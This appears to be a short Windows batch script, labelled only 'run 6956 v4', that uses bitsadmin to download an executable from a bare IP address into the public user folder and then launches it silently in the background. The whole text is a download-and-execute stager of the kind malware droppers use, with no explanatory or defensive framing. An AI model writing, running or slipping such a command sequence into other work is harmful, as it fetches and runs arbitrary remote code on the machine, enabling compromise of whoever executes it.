REM run 6956 v4
bitsadmin /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
